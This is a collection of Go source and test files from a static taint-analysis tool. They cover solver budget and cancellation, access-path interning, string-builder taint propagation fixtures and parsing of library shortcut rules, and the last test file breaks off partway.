	full := NewSolver[*ir.Local](icfg, &localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)})
	full.Solve()
	if s.PropagateCount >= full.PropagateCount {
		t.Errorf("budgeted run did %d propagations, full run only %d", s.PropagateCount, full.PropagateCount)
	}
}

func TestSolveCtxCancelled(t *testing.T) {
	icfg, main := bigTaintICFG(t, 100)
	problem := &localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}
	s := NewSolver[*ir.Local](icfg, problem)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if st := s.SolveCtx(ctx, Limits{}); st != SolveCancelled {
		t.Fatalf("status = %v, want %v", st, SolveCancelled)
	}
	if s.PropagateCount == 0 {
		t.Error("cancelled run recorded no partial work")
	}
}

// TestSolveParallelCtxShutdown checks the two abort paths of the parallel
// solver — cancellation and budget exhaustion — and that neither leaves a
// worker or watcher goroutine behind.
func TestSolveParallelCtxShutdown(t *testing.T) {
	icfg, main := bigTaintICFG(t, 100)
	before := runtime.NumGoroutine()

	cancelled, cancel := context.WithCancel(context.Background())
	cancel()
	pc := &syncedTaint{localTaint: localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}}
	sc := NewSolver[*ir.Local](icfg, pc)
	if st := sc.SolveParallelCtx(cancelled, 4, Limits{}); st != SolveCancelled {
		t.Errorf("cancelled run: status = %v, want %v", st, SolveCancelled)
	}

	pb := &syncedTaint{localTaint: localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}}
	sb := NewSolver[*ir.Local](icfg, pb)
	if st := sb.SolveParallelCtx(context.Background(), 4, Limits{MaxPropagations: 50}); st != SolveBudgetExhausted {
		t.Errorf("budgeted run: status = %v, want %v", st, SolveBudgetExhausted)
	}
	if sb.PropagateCount < 50 {
		t.Errorf("budgeted run stopped after %d propagations, budget was 50", sb.PropagateCount)
	}

	// Both solves returned, so every worker and watcher must be gone.
	// NumGoroutine can lag a hair behind a goroutine's final return; give
	// the scheduler a moment before declaring a leak.
	deadline := time.Now().Add(2 * time.Second)
	for runtime.NumGoroutine() > before && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	if after := runtime.NumGoroutine(); after > before {
		buf := make([]byte, 1<<16)
		n := runtime.Stack(buf, true)
		t.Errorf("goroutine leak: %d before, %d after\n%s", before, after, buf[:n])
	}
}

// TestSolveParallelCtxCompletes: bounded runs that never hit their bounds
// behave exactly like unbounded ones.
func TestSolveParallelCtxCompletes(t *testing.T) {
	icfg, main := bigTaintICFG(t, 20)
	seq := NewSolver[*ir.Local](icfg, &localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)})
	seq.Solve()

	p := &syncedTaint{localTaint: localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}}
	s := NewSolver[*ir.Local](icfg, p)
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if st := s.SolveParallelCtx(ctx, 4, Limits{MaxPropagations: seq.PropagateCount * 2}); st != SolveComplete {
		t.Fatalf("status = %v, want %v", st, SolveComplete)
	}
	if s.PropagateCount != seq.PropagateCount {
		t.Errorf("parallel run did %d propagations, sequential %d", s.PropagateCount, seq.PropagateCount)
	}
	if len(p.leaks) != 20 {
		t.Errorf("leaks = %d, want 20", len(p.leaks))
	}
}
