package taint

import (
	"math/rand"
	"testing"
	"testing/quick"

	"flowdroid/internal/ir"
)

// fieldPool builds n distinct fields for property tests.
func fieldPool(n int) []*ir.Field {
	cls := ir.NewClass("P", "")
	out := make([]*ir.Field, n)
	for i := range out {
		f, err := cls.AddField(string(rune('a'+i)), ir.Ref("P"), false)
		if err != nil {
			panic(err)
		}
		out[i] = f
	}
	return out
}

// TestQuickInterningCanonical: interning the same (base, fields) twice
// always yields the same pointer, and different bases or field chains
// yield different pointers (up to truncation).
func TestQuickInterningCanonical(t *testing.T) {
	fields := fieldPool(6)
	x := &ir.Local{Name: "x"}
	y := &ir.Local{Name: "y"}
	f := func(seed int64, k uint8) bool {
		r := rand.New(rand.NewSource(seed))
		maxLen := int(k%5) + 1
		in := newInterner(maxLen)
		n := r.Intn(5)
		chain := make([]*ir.Field, n)
		for i := range chain {
			chain[i] = fields[r.Intn(len(fields))]
		}
		a := in.local(x, chain...)
		b := in.local(x, chain...)
		if a != b {
			return false
		}
		if len(a.Fields) > maxLen {
			return false
		}
		c := in.local(y, chain...)
		return c != a
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// TestQuickRebasePreservesSuffix: rebase keeps the (truncated) field
// suffix and only changes the root.
func TestQuickRebasePreservesSuffix(t *testing.T) {
	fields := fieldPool(6)
	x := &ir.Local{Name: "x"}
	y := &ir.Local{Name: "y"}
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		in := newInterner(5)
		n := r.Intn(5)
		chain := make([]*ir.Field, n)
		for i := range chain {
			chain[i] = fields[r.Intn(len(fields))]
		}
		a := in.local(x, chain...)
		b := in.rebase(a, y)
		if b.Base != y || len(b.Fields) != len(a.Fields) {
			return false
		}
		for i := range b.Fields {
			if b.Fields[i] != a.Fields[i] {
				return false
			}
		}
		// Rebasing back is the identity.
		return in.rebase(b, x) == a
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// TestQuickAppendLoadInverse: storing a suffix under a field and loading
// that field back yields the original suffix, as long as truncation does
// not intervene.
func TestQuickAppendLoadInverse(t *testing.T) {
	fields := fieldPool(6)
	x := &ir.Local{Name: "x"}
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		in := newInterner(8)
		n := r.Intn(4)
		suffix := make([]*ir.Field, n)
		for i := range suffix {
			suffix[i] = fields[r.Intn(len(fields))]
		}
		fld := fields[r.Intn(len(fields))]
		stored := in.appendField(x, fld, suffix)
		got, ok := loadSuffix(stored, x, fld)
		if !ok || len(got) != len(suffix) {
			return false
		}
		for i := range got {
			if got[i] != suffix[i] {
				return false
			}
		}
		// A different field must not match unless it is the stored one.
		for _, other := range fields {
			if other == fld {
				continue
			}
			if _, matched := loadSuffix(stored, x, other); matched {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// TestQuickTruncationWidens: truncation keeps the path a prefix of the
// untruncated one — the widened path covers everything the longer path
// covered (soundness of k-limiting).
func TestQuickTruncationWidens(t *testing.T) {
	fields := fieldPool(6)
	x := &ir.Local{Name: "x"}
	f := func(seed int64, k uint8) bool {
		r := rand.New(rand.NewSource(seed))
		maxLen := int(k%4) + 1
		short := newInterner(maxLen)
		long := newInterner(16)
		n := maxLen + 1 + r.Intn(3)
		chain := make([]*ir.Field, n)
		for i := range chain {
			chain[i] = fields[r.Intn(len(fields))]
		}
		a := short.local(x, chain...)
		b := long.local(x, chain...)
		if len(a.Fields) != maxLen {
			return false
		}
		for i := range a.Fields {
			if a.Fields[i] != b.Fields[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// TestQuickAbstractionInterning: abstraction identity is (AP, active,
// activation, source) — the predecessor never splits facts.
func TestQuickAbstractionInterning(t *testing.T) {
	x := &ir.Local{Name: "x"}
	in := newInterner(5)
	ap := in.local(x)
	src := &SourceRecord{}
	f := func(active bool) bool {
		ai := newAbsInterner()
		a := ai.get(ap, active, nil, src, nil, nil)
		b := ai.get(ap, active, nil, src, a, nil) // different pred
		if a != b {
			return false
		}
		c := ai.get(ap, !active, nil, src, nil, nil)
		return c != a
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestActivationInterning(t *testing.T) {
	x := &ir.Local{Name: "x"}
	in := newInterner(5)
	ap := in.local(x)
	src := &SourceRecord{}
	ai := newAbsInterner()
	inactive := ai.get(ap, false, nil, src, nil, nil)
	act1 := ai.activate(inactive, nil)
	act2 := ai.activate(inactive, nil)
	if act1 != act2 {
		t.Error("activation should intern")
	}
	if !act1.Active || act1.AP != ap {
		t.Error("activation changed the wrong parts")
	}
	if ai.activate(act1, nil) != act1 {
		t.Error("activating an active fact should be the identity")
	}
}

func TestWrapperParsingAndMatch(t *testing.T) {
	w, err := ParseWrapper(`
wrap <a.B: put/2> arg1 -> base
exclude <a.B: size/0>
`)
	if err != nil {
		t.Fatal(err)
	}
	prog := ir.NewProgram()
	if err := prog.AddClass(ir.NewClass("a.B", "")); err != nil {
		t.Fatal(err)
	}
	base := &ir.Local{Name: "m", Type: ir.Ref("a.B")}
	call := &ir.InvokeExpr{
		Kind: ir.VirtualInvoke, Base: base,
		Ref:  ir.MethodRef{Class: "a.B", Name: "put", NArgs: 2},
		Args: []ir.Value{ir.StringOf("k"), ir.StringOf("v")},
	}
	rules := w.RulesFor(prog, call)
	if len(rules) != 1 || rules[0].From != 1 || rules[0].To[0] != SlotBase {
		t.Errorf("rules = %+v", rules)
	}
	excl := &ir.InvokeExpr{
		Kind: ir.VirtualInvoke, Base: base,
		Ref: ir.MethodRef{Class: "a.B", Name: "size", NArgs: 0},
	}
	ex := w.RulesFor(prog, excl)
	if len(ex) != 1 || len(ex[0].To) != 0 {
		t.Errorf("exclude rules = %+v", ex)
	}
	if !w.Has(prog, call) {
		t.Error("Has should be true")
	}
	for _, bad := range []string{
		"frob <a.B: x/0> base -> return",
		"wrap a.B.x base -> return",
		"wrap <a.B: x/z> base -> return",
		"wrap <a.B: x/0> base",
		"wrap <a.B: x/0> bogus -> return",
	} {
		if _, err := ParseWrapper(bad); err == nil {
			t.Errorf("wrapper rule %q should not parse", bad)
		}
	}
}
