package taint

import (
	"bytes"
	"fmt"
	"testing"
)

// carrierFixtures are the string-carrier test programs. Every fixture is
// also run through the carriers-on/off × workers equivalence harness
// (TestCarrierEquivalence), so each one doubles as a report-identity case.
var carrierFixtures = []struct {
	name string
	src  string
}{
	{"append", carrierAppend},
	{"append-result", carrierAppendResult},
	{"insert", carrierInsert},
	{"insert-index", carrierInsertIndex},
	{"concat", carrierConcat},
	{"valueOf", carrierValueOf},
	{"init", carrierInit},
	{"transform", carrierTransform},
	{"alias-captured", carrierAliasCaptured},
	{"result-captured", carrierResultCaptured},
	{"param-base", carrierParamBase},
	{"recursive", carrierRecursive},
}

// append moves taint from the value argument into the receiver; toString
// snapshots the receiver into the result.
const carrierAppend = `
class Main {
  static method main(): void {
    s = Src.secret()
    sb = new java.lang.StringBuilder()
    sb.append("hello")
    sb.append(s)
    msg = sb.toString()
    Snk.leak(msg)                  // append leak
    pub = new java.lang.StringBuilder()
    pub.append("benign")
    ok = pub.toString()
    Snk.leak(ok)                   // clean builder
    return
  }
}
`

// append returns its receiver: taint must reach the captured result local
// directly, without any alias reasoning.
const carrierAppendResult = `
class Main {
  static method main(): void {
    s = Src.secret()
    sb = new java.lang.StringBuilder()
    r = sb.append(s)
    msg = r.toString()
    Snk.leak(msg)                  // result-alias leak
    return
  }
}
`

// insert's value argument (arg1) taints the receiver.
const carrierInsert = `
class Main {
  static method main(): void {
    s = Src.secret()
    sb = new java.lang.StringBuilder()
    sb.append("x")
    sb.insert(0, s)
    msg = sb.toString()
    Snk.leak(msg)                  // insert leak
    return
  }
}
`

// insert's index argument (arg0) is taint-neutral: a tainted index must
// not taint the builder.
const carrierInsertIndex = `
class Main {
  static method main(): void {
    s = Src.secret()
    i = java.lang.Integer.parseInt(s)
    sb = new java.lang.StringBuilder()
    sb.append("x")
    sb.insert(i, "clean")
    msg = sb.toString()
    Snk.leak(msg)                  // index only: clean
    return
  }
}
`

const carrierConcat = `
class Main {
  static method main(): void {
    s = Src.secret()
    pub = "public"
    a = pub.concat(s)
    Snk.leak(a)                    // concat arg leak
    b = s.concat(pub)
    Snk.leak(b)                    // concat base leak
    return
  }
}
`

const carrierValueOf = `
class Main {
  static method main(): void {
    s = Src.secret()
    v = java.lang.String.valueOf(s)
    Snk.leak(v)                    // valueOf leak
    return
  }
}
`

// Constructor sugar: t = new String(s) expands to alloc + init(s), and the
// init/1 rule carries arg0 into the fresh receiver.
const carrierInit = `
class Main {
  static method main(): void {
    s = Src.secret()
    t = new java.lang.String(s)
    Snk.leak(t)                    // init leak
    return
  }
}
`

const carrierTransform = `
class Main {
  static method main(): void {
    s = Src.secret()
    a = s.substring(0, 3)
    Snk.leak(a)                    // substring leak
    sb = new java.lang.StringBuffer()
    sb.append(s)
    sb.reverse()
    m = sb.toString()
    Snk.leak(m)                    // reverse leak
    return
  }
}
`

// An explicit alias of the builder taken before the tainted append: the
// receiver alias search is load-bearing and the gate must stay open.
const carrierAliasCaptured = `
class Main {
  static method main(): void {
    s = Src.secret()
    sb = new java.lang.StringBuilder()
    local alias: java.lang.StringBuilder
    alias = sb
    sb.append(s)
    msg = alias.toString()
    Snk.leak(msg)                  // alias leak
    return
  }
}
`

// An upstream append whose result was captured: r aliases sb, so the gate
// must stay open at the later tainted append.
const carrierResultCaptured = `
class Main {
  static method main(): void {
    s = Src.secret()
    sb = new java.lang.StringBuilder()
    r = sb.append("seed")
    sb.append(s)
    msg = sb.toString()
    Snk.leak(msg)                  // direct leak
    return
  }
}
`

// The builder is a parameter: its aliases live in the caller, so the gate
// must stay open inside the callee.
const carrierParamBase = `
class Main {
  static method pump(sb: java.lang.StringBuilder): void {
    s = Src.secret()
    sb.append(s)
    return
  }
  static method main(): void {
    sb = new java.lang.StringBuilder()
    Main.pump(sb)
    msg = sb.toString()
    Snk.leak(msg)                  // param leak
    return
  }
}
`

// The carrier sits in a method that can re-enter itself: facts seeded by
// the outer activation can activate at the recursive call site, so the
// gate's region proof does not apply.
const carrierRecursive = `
class Main {
  static method loopy(s: java.lang.String): java.lang.String {
    sb = new java.lang.StringBuilder()
    sb.append(s)
    msg = sb.toString()
    if * goto done
    r = Main.loopy(msg)
    return r
  done:
    return msg
  }
  static method main(): void {
    s = Src.secret()
    out = Main.loopy(s)
    Snk.leak(out)                  // recursive leak
    return
  }
}
`

// expectLeak asserts the fixture leaks (or stays clean) at the line of the
// given marker comment, under the given config.
func expectLeak(t *testing.T, src, marker string, want bool, conf Config) {
	t.Helper()
	r := analyze(t, src, conf)
	line := lineOfCall(src, marker, 1)
	if line < 0 {
		t.Fatalf("marker %q not found", marker)
	}
	if got := hasLeakAtLine(r, line); got != want {
		t.Errorf("leak at %q (line %d) = %v, want %v (leaks: %v)", marker, line, got, want, leakLines(r))
	}
}

// TestCarrierTransfers pins the per-operation transfer functions with the
// fast path on and off.
func TestCarrierTransfers(t *testing.T) {
	checks := []struct {
		src, marker string
		want        bool
	}{
		{carrierAppend, "append leak", true},
		{carrierAppend, "clean builder", false},
		{carrierAppendResult, "result-alias leak", true},
		{carrierInsert, "insert leak", true},
		{carrierInsertIndex, "index only: clean", false},
		{carrierConcat, "concat arg leak", true},
		{carrierConcat, "concat base leak", true},
		{carrierValueOf, "valueOf leak", true},
		{carrierInit, "init leak", true},
		{carrierTransform, "substring leak", true},
		{carrierTransform, "reverse leak", true},
		{carrierAliasCaptured, "alias leak", true},
		{carrierResultCaptured, "direct leak", true},
		{carrierParamBase, "param leak", true},
		{carrierRecursive, "recursive leak", true},
	}
	for _, mode := range []bool{true, false} {
		conf := DefaultConfig()
		conf.StringCarriers = mode
		for _, c := range checks {
			expectLeak(t, c.src, c.marker, c.want, conf)
		}
	}
}

// TestCarrierGateFires: on the canonical fresh-builder pattern the receiver
// alias searches are provably redundant and must be gated.
func TestCarrierGateFires(t *testing.T) {
	r := analyze(t, carrierAppend, DefaultConfig())
	if r.Stats.GatedAliasQueries == 0 {
		t.Error("expected gated alias queries on the fresh-builder fixture, got 0")
	}
	off := DefaultConfig()
	off.StringCarriers = false
	r = analyze(t, carrierAppend, off)
	if r.Stats.GatedAliasQueries != 0 {
		t.Errorf("carriers off: GatedAliasQueries = %d, want 0", r.Stats.GatedAliasQueries)
	}
}

// TestCarrierGateStaysOpen: each fixture that makes the receiver alias
// search load-bearing (or unprovable) must record zero gated queries — the
// gate may never fire where skipping could lose facts.
func TestCarrierGateStaysOpen(t *testing.T) {
	for _, f := range []struct{ name, src string }{
		{"alias-captured", carrierAliasCaptured},
		{"result-captured", carrierResultCaptured},
		{"param-base", carrierParamBase},
		{"recursive", carrierRecursive},
	} {
		r := analyze(t, f.src, DefaultConfig())
		if n := r.Stats.GatedAliasQueries; n != 0 {
			t.Errorf("%s: GatedAliasQueries = %d, want 0", f.name, n)
		}
	}
}

// TestCarrierEquivalence: every carrier fixture must produce a
// byte-identical canonical report with the fast path on and off, at worker
// counts 1, 2 and 8.
func TestCarrierEquivalence(t *testing.T) {
	for _, f := range carrierFixtures {
		f := f
		t.Run(f.name, func(t *testing.T) {
			var base []byte
			for _, carriers := range []bool{true, false} {
				for _, w := range []int{1, 2, 8} {
					conf := DefaultConfig()
					conf.StringCarriers = carriers
					conf.Workers = w
					r := analyze(t, f.src, conf)
					js, err := r.CanonicalJSON()
					if err != nil {
						t.Fatal(err)
					}
					if base == nil {
						base = js
						continue
					}
					if !bytes.Equal(base, js) {
						t.Errorf("carriers=%v workers=%d report differs:\n%s\nvs\n%s",
							carriers, w, base, js)
					}
				}
			}
		})
	}
}

// TestCarrierOpString covers the diagnostic classification.
func TestCarrierOpString(t *testing.T) {
	cases := map[string]carrierOp{
		"append":   opAppend,
		"insert":   opInsert,
		"concat":   opConcat,
		"valueOf":  opValueOf,
		"init":     opInit,
		"toString": opTransform,
		"hashCode": opOther,
	}
	for name, want := range cases {
		if got := classifyCarrierOp(name); got != want {
			t.Errorf("classifyCarrierOp(%q) = %v, want %v", name, got, want)
		}
	}
	for op, s := range map[carrierOp]string{
		opNone: "none", opAppend: "append", opNeutral: "neutral", opOther: "other",
	} {
		if got := fmt.Sprint(op); got != s {
			t.Errorf("%d.String() = %q, want %q", op, got, s)
		}
	}
}
