package taint

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"

	"flowdroid/internal/ir"
)

// Wrapper slot designators in shortcut rules.
const (
	// SlotBase designates the receiver object.
	SlotBase = -1
	// SlotReturn designates the call's result.
	SlotReturn = -2
)

// WrapperRule is one taint shortcut for a library method: if the source
// slot is tainted before the call, the destination slots become (wholly)
// tainted after it. This is the textual "shortcut rules" interface of the
// paper (Section 5, "Defining shortcuts"), and mirrors FlowDroid's
// EasyTaintWrapper granularity: destination objects are tainted as a
// whole, e.g. adding a tainted element to a collection taints the entire
// collection.
type WrapperRule struct {
	Class string
	Name  string
	NArgs int
	From  int // SlotBase, SlotReturn or an argument index
	To    []int
}

// Wrapper holds the shortcut rule table, indexed by method name and
// arity.
type Wrapper struct {
	rules map[string][]WrapperRule
}

func ruleKey(name string, nargs int) string { return name + "/" + strconv.Itoa(nargs) }

// NewWrapper creates an empty wrapper.
func NewWrapper() *Wrapper {
	return &Wrapper{rules: make(map[string][]WrapperRule)}
}

// DefaultWrapper parses the built-in shortcut rules for collections,
// strings, string builders, intents and bundles.
func DefaultWrapper() *Wrapper {
	w, err := ParseWrapper(DefaultWrapperRules)
	if err != nil {
		panic("taint: built-in wrapper rules do not parse: " + err.Error())
	}
	return w
}

// Add registers a rule.
func (w *Wrapper) Add(r WrapperRule) {
	k := ruleKey(r.Name, r.NArgs)
	w.rules[k] = append(w.rules[k], r)
}

// RulesFor returns the shortcut rules applicable to an invocation, or nil
// if the method is not modeled (callers then fall back to the native-call
// default). Class matching is by subtype in either direction, so a rule on
// java.util.List applies to calls through ArrayList and vice versa. When
// several matched rules disagree on the class, the most specific class
// wins (see mostSpecific), and the result is in a canonical order
// independent of Add registration order.
func (w *Wrapper) RulesFor(prog ir.Hierarchy, call *ir.InvokeExpr) []WrapperRule {
	candidates := w.rules[ruleKey(call.Ref.Name, call.Ref.NArgs)]
	if len(candidates) == 0 {
		return nil
	}
	// Refine the receiver class from the base local's declared type
	// whenever one exists. The dispatch kind is irrelevant for rule
	// lookup: special (and interface-style) invokes through a typed base
	// would otherwise silently miss rules keyed on the concrete class and
	// fall back to the declared ref class.
	cls := call.Ref.Class
	if call.Base != nil && call.Base.Type.IsRef() {
		cls = call.Base.Type.Name
	}
	var out []WrapperRule
	for _, r := range candidates {
		if cls == r.Class || cls == "" ||
			prog.SubtypeOf(cls, r.Class) || prog.SubtypeOf(r.Class, cls) {
			out = append(out, r)
		}
	}
	return mostSpecific(prog, cls, out)
}

// mostSpecific resolves class conflicts among matched rules: a rule whose
// class exactly matches the receiver wins outright, and otherwise any rule
// declared on a strict supertype of another matched rule's class is
// shadowed by the more specific one (a java.lang.Object fallback must not
// fire alongside a java.lang.StringBuilder rule for the same method). The
// survivors are sorted into a canonical order so the selection — and
// everything derived from it, like compiled carrier transfers — is
// deterministic regardless of Add insertion order.
func mostSpecific(prog ir.Hierarchy, cls string, matched []WrapperRule) []WrapperRule {
	if len(matched) > 1 {
		exact := matched[:0:0]
		for _, r := range matched {
			if r.Class == cls {
				exact = append(exact, r)
			}
		}
		if len(exact) > 0 {
			matched = exact
		} else {
			keep := matched[:0:0]
			for _, r := range matched {
				shadowed := false
				for _, o := range matched {
					if o.Class != r.Class && prog.SubtypeOf(o.Class, r.Class) {
						shadowed = true
						break
					}
				}
				if !shadowed {
					keep = append(keep, r)
				}
			}
			matched = keep
		}
	}
	sort.SliceStable(matched, func(i, j int) bool {
		a, b := matched[i], matched[j]
		if a.Class != b.Class {
			return a.Class < b.Class
		}
		if a.From != b.From {
			return a.From < b.From
		}
		return fmt.Sprint(a.To) < fmt.Sprint(b.To)
	})
	return matched
}

// Has reports whether any rule exists for the invocation.
func (w *Wrapper) Has(prog ir.Hierarchy, call *ir.InvokeExpr) bool {
	return len(w.RulesFor(prog, call)) > 0
}

// ParseWrapper reads shortcut rules in the textual format:
//
//	wrap <java.lang.StringBuilder: append/1> arg0 -> base, return
//	wrap <java.util.List: get/1> base -> return
//	exclude <java.lang.String: isEmpty/0>
//
// "exclude" declares a method taint-neutral: it gets an empty rule set,
// which suppresses the native-call default without adding flows.
func ParseWrapper(text string) (*Wrapper, error) {
	w := NewWrapper()
	sc := bufio.NewScanner(strings.NewReader(text))
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		kind, rest, _ := strings.Cut(line, " ")
		switch kind {
		case "wrap":
			r, err := parseWrapRule(rest)
			if err != nil {
				return nil, fmt.Errorf("taint: wrapper line %d: %v", lineNo, err)
			}
			w.Add(r)
		case "exclude":
			cls, name, nargs, err := parseSig(rest)
			if err != nil {
				return nil, fmt.Errorf("taint: wrapper line %d: %v", lineNo, err)
			}
			// An empty destination list: matched but flow-free.
			w.Add(WrapperRule{Class: cls, Name: name, NArgs: nargs, From: SlotBase, To: nil})
		default:
			return nil, fmt.Errorf("taint: wrapper line %d: expected 'wrap' or 'exclude'", lineNo)
		}
	}
	return w, sc.Err()
}

func parseSig(s string) (cls, name string, nargs int, err error) {
	s = strings.TrimSpace(s)
	if !strings.HasPrefix(s, "<") || !strings.Contains(s, ">") {
		return "", "", 0, fmt.Errorf("expected '<Class: method/arity>'")
	}
	sig := s[1:strings.Index(s, ">")]
	clsPart, methodPart, ok := strings.Cut(sig, ":")
	if !ok {
		return "", "", 0, fmt.Errorf("missing ':' in %q", sig)
	}
	namePart, arityPart, ok := strings.Cut(strings.TrimSpace(methodPart), "/")
	if !ok {
		return "", "", 0, fmt.Errorf("missing arity in %q", sig)
	}
	n, err := strconv.Atoi(strings.TrimSpace(arityPart))
	if err != nil {
		return "", "", 0, fmt.Errorf("bad arity in %q", sig)
	}
	return strings.TrimSpace(clsPart), strings.TrimSpace(namePart), n, nil
}

func parseWrapRule(s string) (WrapperRule, error) {
	cls, name, nargs, err := parseSig(s)
	if err != nil {
		return WrapperRule{}, err
	}
	rest := strings.TrimSpace(s[strings.Index(s, ">")+1:])
	fromPart, toPart, ok := strings.Cut(rest, "->")
	if !ok {
		return WrapperRule{}, fmt.Errorf("missing '->' in rule")
	}
	from, err := parseSlot(strings.TrimSpace(fromPart))
	if err != nil {
		return WrapperRule{}, err
	}
	var to []int
	for _, p := range strings.Split(toPart, ",") {
		slot, err := parseSlot(strings.TrimSpace(p))
		if err != nil {
			return WrapperRule{}, err
		}
		to = append(to, slot)
	}
	return WrapperRule{Class: cls, Name: name, NArgs: nargs, From: from, To: to}, nil
}

func parseSlot(s string) (int, error) {
	switch {
	case s == "base":
		return SlotBase, nil
	case s == "return":
		return SlotReturn, nil
	case strings.HasPrefix(s, "arg"):
		n, err := strconv.Atoi(strings.TrimPrefix(s, "arg"))
		if err != nil {
			return 0, fmt.Errorf("bad slot %q", s)
		}
		return n, nil
	}
	return 0, fmt.Errorf("bad slot %q (want base, return or argN)", s)
}

// DefaultWrapperRules is the built-in shortcut configuration, the
// analogue of FlowDroid's EasyTaintWrapper defaults.
const DefaultWrapperRules = `
# ------------------------------------------------------------- strings
wrap <java.lang.String: concat/1> base -> return
wrap <java.lang.String: concat/1> arg0 -> return
wrap <java.lang.String: substring/1> base -> return
wrap <java.lang.String: substring/2> base -> return
wrap <java.lang.String: toCharArray/0> base -> return
wrap <java.lang.String: getBytes/0> base -> return
wrap <java.lang.String: toUpperCase/0> base -> return
wrap <java.lang.String: toLowerCase/0> base -> return
wrap <java.lang.String: trim/0> base -> return
wrap <java.lang.String: split/1> base -> return
wrap <java.lang.String: replace/2> base -> return
wrap <java.lang.String: replace/2> arg1 -> return
wrap <java.lang.String: valueOf/1> arg0 -> return
wrap <java.lang.String: format/2> arg1 -> return
wrap <java.lang.String: init/1> arg0 -> base
wrap <java.lang.Object: toString/0> base -> return
exclude <java.lang.String: isEmpty/0>
exclude <java.lang.String: length/0>
exclude <java.lang.String: equals/1>
exclude <java.lang.String: startsWith/1>
exclude <java.lang.String: compareTo/1>

# ------------------------------------------------------ string builders
wrap <java.lang.StringBuilder: append/1> arg0 -> base, return
wrap <java.lang.StringBuilder: append/1> base -> return
wrap <java.lang.StringBuilder: insert/2> arg1 -> base, return
wrap <java.lang.StringBuilder: insert/2> base -> return
wrap <java.lang.StringBuilder: reverse/0> base -> return
wrap <java.lang.StringBuffer: append/1> arg0 -> base, return
wrap <java.lang.StringBuffer: append/1> base -> return
wrap <java.lang.StringBuffer: insert/2> arg1 -> base, return
wrap <java.lang.StringBuffer: insert/2> base -> return
wrap <java.lang.StringBuffer: reverse/0> base -> return

# ---------------------------------------------------------- collections
# Adding a tainted element taints the entire collection.
wrap <java.util.Collection: add/1> arg0 -> base
wrap <java.util.List: set/2> arg1 -> base
wrap <java.util.List: get/1> base -> return
wrap <java.util.List: remove/1> base -> return
wrap <java.util.LinkedList: addFirst/1> arg0 -> base
wrap <java.util.LinkedList: addLast/1> arg0 -> base
wrap <java.util.LinkedList: getFirst/0> base -> return
wrap <java.util.Vector: addElement/1> arg0 -> base
wrap <java.util.Vector: elementAt/1> base -> return
wrap <java.util.Collection: iterator/0> base -> return
wrap <java.util.Iterator: next/0> base -> return
wrap <java.util.Map: put/2> arg0 -> base
wrap <java.util.Map: put/2> arg1 -> base
wrap <java.util.Map: get/1> base -> return
wrap <java.util.Map: keySet/0> base -> return
wrap <java.util.Map: values/0> base -> return
wrap <java.util.Hashtable: elements/0> base -> return
wrap <java.util.StringTokenizer: init/1> arg0 -> base
wrap <java.util.StringTokenizer: nextToken/0> base -> return

# ------------------------------------------------- intents and bundles
wrap <android.content.Intent: putExtra/2> arg1 -> base
wrap <android.content.Intent: getStringExtra/1> base -> return
wrap <android.content.Intent: getExtras/0> base -> return
wrap <android.os.Bundle: putString/2> arg1 -> base
wrap <android.os.Bundle: getString/1> base -> return

# ----------------------------------------------------------- buffers/io
wrap <java.lang.Integer: parseInt/1> arg0 -> return
wrap <java.lang.Integer: valueOf/1> arg0 -> return
wrap <java.lang.Integer: intValue/0> base -> return
`

// Fingerprint returns a stable digest of the rule table, independent of
// registration order, for configuration fingerprinting (the summary
// store keys its namespaces by it — shortcut rules change transfer
// functions, so two runs may only share summaries when their wrappers
// agree).
func (w *Wrapper) Fingerprint() string {
	if w == nil {
		return "none"
	}
	var lines []string
	for _, rs := range w.rules {
		for _, r := range rs {
			lines = append(lines, fmt.Sprintf("%s:%s/%d:%d->%v", r.Class, r.Name, r.NArgs, r.From, r.To))
		}
	}
	sort.Strings(lines)
	h := sha256.New()
	for _, l := range lines {
		io.WriteString(h, l)
		io.WriteString(h, "\n")
	}
	return hex.EncodeToString(h.Sum(nil))[:16]
}

// MergeWrappers combines several rule tables into a new one; nil tables
// are skipped. Rules from all inputs apply (duplicates are harmless).
func MergeWrappers(ws ...*Wrapper) *Wrapper {
	out := NewWrapper()
	for _, w := range ws {
		if w == nil {
			continue
		}
		for _, rs := range w.rules {
			for _, r := range rs {
				out.Add(r)
			}
		}
	}
	return out
}
