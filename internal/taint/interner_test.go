package taint

// Regression tests for Stats.PeakAbstractions exactness. The abstraction
// interner keys on the *SourceRecord pointer, so the counter only equals
// "distinct taint abstractions interned over the run" if the same
// conceptual source always yields the same record pointer — which the
// engine's sourceRecord interner now guarantees — and if the interner
// itself never double-counts a key under concurrent insertion.

import (
	"sync"
	"testing"

	"flowdroid/internal/sourcesink"
)

// TestSourceRecordInterning: the same (statement, rule) pair must yield
// one pointer no matter how many flow-function evaluations ask for it;
// distinct statements or rules yield distinct records.
func TestSourceRecordInterning(t *testing.T) {
	stmts := mainStmts(t, manyLeaks)
	if len(stmts) < 2 {
		t.Fatalf("fixture too small: %d stmts", len(stmts))
	}
	e := newEngine(nil, nil, Config{APLength: 5})
	src := sourcesink.Source{Class: "Src", Name: "get", Label: "s"}

